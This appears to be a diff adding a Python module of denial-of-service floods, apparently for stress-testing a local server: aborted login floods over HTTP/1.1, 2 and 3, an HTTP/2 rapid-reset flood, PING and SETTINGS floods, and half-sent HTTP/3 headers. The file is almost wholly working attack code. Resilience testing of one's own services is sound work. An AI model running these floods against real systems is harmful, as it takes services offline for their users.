@@ -1,0 +1,138 @@
+"""Floods over HTTP/1 to 3."""
+
+import asyncio
+import json
+import time
+
+import wire
+from common import Line, Pace, dial_tls, rounds, spread, tls
+from over_quic import client
+
+BAD_LOGIN = json.dumps({"user": "stranger", "password": "not it"}).encode()
+# At a time, where each is too little to be worth a call.
+BATCH = 50
+
+
+def logins_http1(site, seconds):
+    """2,000 a minute: a connection each, closed behind the request."""
+    context, request = tls(site), b"POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\n"
+    request += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(BAD_LOGIN) + BAD_LOGIN
+
+    def one(number):
+        with dial_tls(site, context, number) as sock:
+            sock.sendall(request)
+
+    return spread(Pace(seconds, 2000 / 60), one)
+
+
+def http2(site):
+    context = tls(site, ["h2"])
+    return Line(lambda number: dial_tls(site, context, number))
+
+
+def logins_http2(site, seconds):
+    """2,000 a minute: streams that are reset, up to 100 on a connection."""
+    line, at = http2(site), {"stream": 1}
+
+    def one(_):
+        if at["stream"] > 200:
+            line.close()
+        line.open()
+        if line.fresh:
+            at["stream"] = 1
+            line.send(wire.h2_preface())
+        line.send(wire.h2_login(at["stream"], BAD_LOGIN))
+        time.sleep(0.002)
+        line.send(wire.h2_reset(at["stream"]))
+        at["stream"] += 2
+        line.read()
+
+    return spread(Pace(seconds, 2000 / 60), one)
+
+
+def rapid_resets(site, seconds):
+    """5,000 requests a second, each reset at once, in one connection after the other."""
+    line, at = http2(site), {"stream": 1}
+
+    def one(_):
+        line.open()
+        if line.fresh:
+            at["stream"] = 1
+            line.send(wire.h2_preface())
+        streams = [at["stream"] + 2 * step for step in range(BATCH)]
+        line.send(b"".join(wire.h2_frame(1, 5, stream, wire.H2_REQUEST) + wire.h2_reset(stream) for stream in streams))
+        at["stream"] += 2 * BATCH
+        line.read()
+
+    return BATCH * spread(Pace(seconds, 5_000 / BATCH), one)
+
+
+def pings(site, seconds):
+    """20,000 PING and SETTINGS a second over 20 connections that read none of the answers."""
+    lines = [http2(site) for _ in range(20)]
+    frames = (wire.h2_frame(6, 0, 0, bytes(8)) + wire.h2_frame(4, 0, 0, b"")) * BATCH
+
+    def one(number):
+        line = lines[number % len(lines)]
+        line.open()
+        line.sock.settimeout(0.2)
+        line.send(wire.h2_preface() + frames if line.fresh else frames)
+
+    return 2 * BATCH * spread(Pace(seconds, 20_000 / BATCH / 2), one)
+
+
+def logins_http3(site, seconds):
+    """2,000 a minute: streams that are reset, up to 100 on a connection."""
+    from aioquic.h3.connection import H3Connection
+
+    headers = [
+        (b":method", b"POST"),
+        (b":scheme", b"https"),
+        (b":authority", b"localhost"),
+        (b":path", b"/api/v1/session"),
+        (b"content-type", b"application/json"),
+        (b"content-length", b"%d" % len(BAD_LOGIN)),
+    ]
+    open_one = {"client": None, "left": 0}
+
+    async def one(number):
+        if not open_one["left"]:
+            if open_one["client"]:
+                open_one["client"].end()
+            open_one["client"] = None
+            open_one["client"] = await client(site, number, "https", "h3")
+            open_one.update(left=100, http=H3Connection(open_one["client"].quic))
+        open_one["left"] -= 1
+        quic, http = open_one["client"].quic, open_one["http"]
+        stream = quic.get_next_available_stream_id()
+        http.send_headers(stream, headers)
+        http.send_data(stream, BAD_LOGIN, end_stream=False)
+        open_one["client"].transmit()
+        await asyncio.sleep(0.002)
+        quic.reset_stream(stream, 0x10C)
+        quic.stop_stream(stream, 0x10C)
+        open_one["client"].transmit()
+
+    return rounds(seconds, 2000 / 60, one, at_once=1)
+
+
+def half_headers_http3(site, seconds):
+    """20 connections a second with 64 requests each whose headers, of 8 KB, lack their last byte."""
+
+    async def one(number):
+        quic = (connection := await client(site, number, "https", "h3")).quic
+        for _ in range(64):
+            quic.send_stream_data(quic.get_next_available_stream_id(), b"\x01\x60\x00" + bytes(0x1FFF))
+        connection.transmit()
+
+    return rounds(seconds, 20, one)
+
+
+ATTACKS = {
+    "aborted logins, HTTP/1.1": logins_http1,
+    "aborted logins, HTTP/2": logins_http2,
+    "aborted logins, HTTP/3": logins_http3,
+    "rapid resets, HTTP/2": rapid_resets,
+    "PING and SETTINGS, HTTP/2": pings,
+    "half the headers, HTTP/3": half_headers_http3,
+}
